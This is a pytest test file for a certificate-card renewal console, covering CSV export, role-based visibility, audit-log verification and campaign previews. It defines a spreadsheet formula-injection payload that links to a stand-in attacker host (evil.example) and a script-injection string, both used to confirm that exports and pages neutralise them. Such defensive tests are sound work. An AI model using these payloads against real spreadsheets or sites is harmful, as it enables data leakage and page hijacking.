"""What the pages say and hand out: CSV, filters, drafts, previews. Who may see them is tests/flows/test_nobody_gets_in;
how they look and feel in a browser is tests/flows/test_console_pages."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from renewagent.campaign.document import parse_campaign
from renewagent.check_ins import CardState
from renewagent.console import campaign_preview
from renewagent.console.app import people_app
from renewagent.console.audit import Entry, verify_chain
from renewagent.console.permissions import Person, Role
from renewagent.console.site import Site
from renewagent.console.tables import AUDIT, CARD, CHECK_IN, CHECK_ORDER, STANDING, TARGET
from renewagent.console.words import GROUPS, STATES, what_next
from tests.console import Browser, form_token, new_person, new_site, sign_in
from tests.flows.console_seed import CAMPAIGN_ID, ISSUER, NOW, anchor_pem, document, seed, signed
from tests.postgresql import server

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
MARKUP = "<script>alert(1)</script>\"'&"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    site = new_site(tmp_path_factory.mktemp("console"))
    site.settings.campaign_anchor.write_bytes(anchor_pem())
    seed(site.store, NOW, targets=96, others=24)
    return site


def somebody(site: Site, role: Role = Role.RA_MANAGER, organisations: str = "*") -> Browser:
    account = f"{role.value} {organisations} {len(site.store.reading(lambda c: list(c.execute(sa.select(AUDIT)))))}"
    person = new_person(site, role, organisations, account=account)
    return Browser(people_app(site), sign_in(site, person))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def spoil(site: Site, value: str) -> str:
    """The holder of an outstanding card gets this name; the card."""

    def write(connection: sa.Connection) -> str:
        row = connection.execute(sa.select(STANDING).where(STANDING.c.state == "told")).first()
        assert row is not None
        target = (TARGET.c.issuer == row.issuer, TARGET.c.serial == row.serial)
        connection.execute(sa.update(TARGET).where(*target).values(holder=value))
        return str(row.card)

    return site.store.writing(write)


def test_the_file_holds_what_the_list_holds(site: Site) -> None:
    answer = somebody(site).get("/cards.csv?status=told")
    rows = csv_rows(answer.text)
    told = site.store.reading(
        lambda c: c.execute(sa.select(STANDING.c.card).where(STANDING.c.state == "told")).scalars().all()
    )
    stuck = csv_rows(somebody(site).get("/cards.csv?status=stuck").text)
    assert {row["card"] for row in rows} | {r["card"] for r in stuck if r["last_report"] == "Told"} == set(told)
    assert answer.header("content-type") == "text/csv; charset=utf-8"
    assert answer.header("content-disposition") == f'attachment; filename="{CAMPAIGN_ID}-2026-11-22.csv"'
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", row["since"]) for row in rows)


def test_a_cell_never_becomes_a_formula(site: Site) -> None:
    card = spoil(site, FORMULA)
    rows = csv_rows(somebody(site).get("/cards.csv").text)
    assert next(row["holder"] for row in rows if row["card"] == card) == f"'{FORMULA}"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row.values())


def test_markup_in_a_name_stays_text(site: Site) -> None:
    card = spoil(site, MARKUP)
    for path in ("/cards?status=told", "/cards?status=stuck", f"/cards/{card}"):
        text = somebody(site).get(path).text
        assert "<script>alert" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in somebody(site).get(f"/cards/{card}").text


def test_people_are_named_to_those_who_may_know_them(site: Site) -> None:
    sponsor = somebody(site, Role.SPONSOR, "RX1")
    rows = csv_rows(sponsor.get("/cards.csv").text)
    assert rows and "holder" not in rows[0]
    assert {row["organisation"] for row in rows} == {"RX1"}
    assert "Dr " not in sponsor.get("/cards").text
    assert "Dr " in somebody(site, Role.RA_AGENT, "RX1").get("/cards").text


def test_that_a_file_was_taken_stands_in_the_audit_log(site: Site) -> None:
    somebody(site).get("/cards.csv?organisation=RX2")
    last = site.store.reading(lambda c: c.execute(sa.select(AUDIT).order_by(AUDIT.c.number.desc())).first())
    assert last is not None and last.event == "cards.exported"
    assert json.loads(last.details) == {"campaign": CAMPAIGN_ID, "organisation": "RX2"}


@pytest.mark.parametrize(
    "query",
    [
        *("status=none", "status=finished", "issued_from=yesterday", "issued_to=2026-13-01", "expires=8", "held=x"),
        *("after=x", "after=e30", "organisation=" + "x" * 201, "expires=%C2%B2"),
    ],
)
def test_what_is_no_filter_is_refused(site: Site, query: str) -> None:
    assert somebody(site).get(f"/cards?{query}").status == 400


def test_of_many_organisations_those_with_the_most_to_do_are_shown_until_all_are_asked_for(tmp_path: Path) -> None:
    site = new_site(tmp_path)
    seed(site.store, NOW, targets=96, others=0, share_seen=0)

    def spread(connection: sa.Connection) -> None:
        for number, (serial,) in enumerate(connection.execute(sa.select(TARGET.c.serial)).all()):
            code = f"Z{number if number < 30 else 7:02}"
            connection.execute(sa.update(TARGET).where(TARGET.c.serial == serial).values(organisation=code))

    site.store.writing(spread)
    manager = somebody(site)
    some, every = (manager.get(path).text for path in ("/", f"/?campaign={CAMPAIGN_ID}&organisations=all"))
    rows = re.findall(r"organisation=(Z\d\d)", some)
    assert len(rows) == 25 and rows[0] == "Z07" and "Show all 30 organisations" in some
    assert sorted(re.findall(r"organisation=(Z\d\d)", every)) == [f"Z{number:02}" for number in range(30)]


def test_an_unknown_campaign_is_not_found(site: Site) -> None:
    for path in ("/?campaign=none", "/cards?campaign=none", "/cards.csv?campaign=none", "/campaigns/none"):
        assert somebody(site).get(path).status == 404


def test_a_card_of_another_organisation_is_as_good_as_none(site: Site) -> None:
    card = site.store.reading(
        lambda c: c.execute(sa.select(STANDING.c.card).where(STANDING.c.organisation == "RX2")).scalar()
    )
    assert somebody(site, Role.RA_AGENT, "RX2").get(f"/cards/{card}").status == 200
    mine, none = (somebody(site, Role.RA_AGENT, "RX1").get(path) for path in (f"/cards/{card}", "/cards/none"))
    assert mine.status == none.status == 404 and mine.body == none.body


def test_another_organisations_workstation_is_not_named(site: Site) -> None:
    def move(connection: sa.Connection) -> Any:
        row = connection.execute(
            sa.select(CHECK_IN.c.card, CHECK_IN.c.agent)
            .join(STANDING, STANDING.c.card == CHECK_IN.c.card)
            .where(STANDING.c.organisation == "Y90")
        ).first()
        assert row is not None
        for table in (STANDING, CARD):
            key = table.c.card if table is STANDING else table.c.identity
            connection.execute(sa.update(table).where(key == row.card).values(organisation="FA7"))
        return row

    card = site.store.writing(move).card
    assert "Y90-WS" in somebody(site).get(f"/cards/{card}").text
    text = somebody(site, Role.RA_AGENT, "FA7").get(f"/cards/{card}").text
    assert "Y90-WS" not in text and "another organisation&#39;s" in text


def test_the_pages_own_files_may_be_kept(site: Site) -> None:
    nobody = Browser(people_app(site))
    style = nobody.get("/static/style.css")
    assert (style.status, style.header("content-type")) == (200, "text/css; charset=utf-8")
    assert style.header("cache-control").startswith("public")
    assert nobody.get("/static/base.html").status == nobody.get("/static/..").status == 404


def test_no_page_has_a_script_or_a_style_of_its_own(site: Site) -> None:
    """The policy that goes with them allows none."""
    manager = somebody(site)
    for path in ("/", "/cards", "/campaigns", "/targets", "/people", "/agents", "/audit", f"/campaigns/{CAMPAIGN_ID}"):
        text = manager.get(path).text
        assert not re.search(r"<script(?![^>]* src=)|<style|\sstyle=|\son[a-z]+=|javascript:", text)


@pytest.mark.parametrize(("step", "changed"), [("pause", {"paused": True}), ("withdraw", {"withdrawn": True})])
def test_the_next_version_is_the_document_itself_changed(site: Site, step: str, changed: dict[str, Any]) -> None:
    answer = somebody(site).get(f"/campaigns/{CAMPAIGN_ID}/next/{step}")
    drafted = json.loads(answer.body)
    expected = {**json.loads(document()), **changed, "version": 3, "published": "2026-11-22T09:30:00Z"}
    assert drafted == expected
    assert answer.header("content-disposition") == f'attachment; filename="{CAMPAIGN_ID}-3.json"'


def test_what_cannot_be_next_is_refused_in_words(site: Site) -> None:
    answer = somebody(site).get(f"/campaigns/{CAMPAIGN_ID}/next/resume")
    assert answer.status == 400 and "is not paused" in answer.text
    assert somebody(site).get(f"/campaigns/{CAMPAIGN_ID}/next/abort").status == 404


def test_a_signed_version_is_handed_back_as_it_was(site: Site) -> None:
    answer = somebody(site).get(f"/campaigns/{CAMPAIGN_ID}/1.campaign")
    assert answer.body[:1] == b"\x30" and answer.header("content-type") == "application/cms"
    assert somebody(site).get(f"/campaigns/{CAMPAIGN_ID}/99999999999.campaign").status == 404


def sent(browser: Browser, site: Site, path: str, octets: bytes) -> Any:
    border = "x" * 30
    csrf = form_token(site, browser.token)
    parts = f'--{border}\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{csrf}\r\n'.encode()
    parts += f'--{border}\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\n'.encode()
    body = parts + octets + f"\r\n--{border}--\r\n".encode()
    return browser.post(path, body, ("content-type", f"multipart/form-data; boundary={border}"))


def test_an_older_version_is_refused_with_the_reason(site: Site) -> None:
    answer = sent(somebody(site), site, "/campaigns", signed(document(version=1)))
    assert answer.status == 422 and "version 2 has been published before" in answer.text


@pytest.mark.parametrize("octets", [b"", b"{}", b"\x30\x80", b"PK", b"[" * 5000, signed(document())[:-40]])
def test_what_is_no_campaign_is_refused_by_preview_and_publishing(site: Site, octets: bytes) -> None:
    for path in ("/preview", "/campaigns"):
        answer = sent(somebody(site), site, path, octets)
        assert answer.status == 422 and 'role="alert"' in answer.text


RULES: list[dict[str, Any]] = [
    {"name": "r", "issued_from": (NOW - timedelta(days=400)).strftime("%Y-%m-%dT00:00:00Z")},
    {"name": "r", "issuer": ISSUER, "serials": ["20000000-2000001f"]},
    {"name": "r", "issuer": "CN=Somebody else"},
    {"name": "r", "issuer": "cn=nhs  SIGNING g2,o=NHS,c=gb", "card_models": ["pkcs11"]},
    {"name": "r", "key_bits_below": 2048},
]


@pytest.mark.parametrize("rule", RULES)
@pytest.mark.parametrize("organisations", [frozenset({"*"}), frozenset({"RX2"})])
def test_a_preview_counts_what_the_rules_hit(site: Site, rule: dict[str, Any], organisations: frozenset[str]) -> None:
    judged = parse_campaign(document(rules=[rule]))
    person = Person("p", "P", Role.RA_AGENT_ADVANCED, organisations)
    found = site.store.reading(lambda c: campaign_preview.preview(c, person, judged))
    cards = [r for r in site.store.reading(lambda c: list(c.execute(sa.select(CARD)))) if person.covers(r.organisation)]
    [one] = judged.rules
    expected = 0
    for card in cards:
        fits = one.holds_date(card.not_before) and one.holds_serial(int(card.serial, 16))
        fits = fits and (not one.card_models or card.model in one.card_models)
        expected += fits and (one.issuer is None or rule["issuer"] != "CN=Somebody else")
    assert (found.total.cards, found.total.cards_hit) == (len(cards), expected)
    assert found.by_rule["r"] == found.total.cards_hit + found.total.targets_hit
    assert found.exact is ("key_bits_below" not in rule)
    assert set(found.by_organisation) <= ({"RX2"} if "*" not in organisations else {"RX1", "RX2", "Y90", "FA7"})


def test_the_exported_audit_log_is_whole(site: Site) -> None:
    text = somebody(site).get("/audit.jsonl").text
    entries = [Entry.from_line(line) for line in text.splitlines()]
    assert len(entries) > 5 and verify_chain(entries) is None
    assert "The log is whole." in somebody(site).get("/audit/verify").text


def test_a_changed_audit_log_is_told_of(tmp_path: Path) -> None:
    site = new_site(tmp_path)
    manager = somebody(site)
    site.store.writing(lambda c: c.execute(sa.update(AUDIT).where(AUDIT.c.number == 1).values(actor="nobody")))
    text = manager.get("/audit/verify").text
    assert "The log is not whole." in text and "Entry 1 was changed." in text


def test_every_page_is_the_same_on_postgresql(tmp_path: Path) -> None:
    """The same seed, the same dice: the same pages, to the letter."""

    def pages(url: str) -> dict[str, tuple[int, bytes]]:
        (tmp_path / "x").mkdir(exist_ok=True)
        site = new_site(tmp_path / "x", database=url)
        seed(site.store, NOW, targets=96, others=24)
        manager, agent = somebody(site), somebody(site, Role.RA_AGENT, "RX1 RX2")
        order = site.store.reading(lambda c: c.execute(sa.select(CHECK_ORDER.c.id)).scalar())
        lowest = sa.select(sa.func.min(STANDING.c.card)).where(STANDING.c.organisation == "RX1")
        card = site.store.reading(lambda c: c.execute(lowest).scalar())
        agents = agent.get("/agents").text
        first = re.findall(r"/check-now\?agent=[0-9a-f]+", agents)[0]
        paths = ["/", "/cards", "/cards?held=2&expires=30", "/cards?status=not-seen", "/cards.csv", f"/cards/{card}"]
        paths += ["/campaigns", "/check-now", f"/check-now/{order}", first, "/agents", "/agents?machine=_WS00%"]
        paths += ["/agents?machine=ws0001", "/agents?after=RX1-WS0005&id=0"]
        found = {
            f"{who} {path}": someone.get(path)
            for who, someone in (("agent", agent), ("all", manager))
            for path in paths
        }
        more = ("/targets", "/people", "/fleet-codes", "/audit", "/audit.jsonl")
        found |= {path: manager.get(path) for path in more}
        site.store.close()
        return {path: (answer.status, answer.body) for path, answer in found.items()}

    with server() as url:
        theirs = pages(url)
    ours = pages(f"sqlite:///{tmp_path / 'console.db'}")
    assert {status for status, _ in ours.values()} == {200}
    for path, answer in ours.items():
        assert theirs[path] == answer, path


def test_every_state_has_words_and_a_shape_of_its_own() -> None:
    assert set(STATES) == set(CardState)
    assert len({words.icon for words in STATES.values()}) == len(STATES)
    assert len({words.label for words in STATES.values()}) == len(STATES)
    assert sorted(s.value for g in GROUPS for s in g.states) == sorted(s.value for s in CardState)
    icons = (Path(campaign_preview.__file__).parent / "templates" / "icons.html").read_text()
    assert all(f'name == "{words.icon}"' in icons for words in STATES.values())
    for state in CardState:
        assert what_next(CardState.STUCK, state).endswith(".") and "Nothing to do" not in what_next(
            CardState.STUCK, state
        )


def test_whoever_ends_themselves_is_kept_from_it(site: Site) -> None:
    manager = somebody(site)
    text = manager.get("/people").text
    csrf = form_token(site, manager.token)
    identity = re.search(r'\(you\)[^§]*?name="id" value="([0-9a-f]+)"', text)
    assert identity is not None
    answer = manager.post("/people/end", {"csrf": csrf, "id": identity[1]})
    assert answer.status == 422 and "You cannot end yourself." in answer.text


def test_an_ra_manager_lets_people_of_the_epcs_desk_in_by_the_ehr_alone(site: Site) -> None:
    """With a card or an account of their own for each they were the two people whom a grant takes."""
    manager = somebody(site)
    csrf = form_token(site, manager.token)
    newcomer = {"csrf": csrf, "name": "Bea Two", "organisations": "RX1", "dea": "AB1234563"}
    for role in ("prescriber", "epcs-administrator"):
        for ways in ({"ehr": "bea", "account": "mine"}, {"ehr": "bea", "subject": "CN=Mine"}, {"account": "mine"}):
            answer = manager.post("/people", {**newcomer, "role": role, **ways})
            assert answer.status == 422 and "by their user name in the EHR alone" in answer.text
    agent = new_person(site, Role.RA_AGENT, "RX1", account="an agent")
    change = {"csrf": csrf, "id": agent.id, "role": "prescriber", "organisations": "RX1"}
    answer = manager.post("/people/change", change)
    assert answer.status == 422 and "by their user name in the EHR alone" in answer.text
    assert manager.post("/people", {**newcomer, "role": "prescriber", "ehr": "bea"}).status == 303
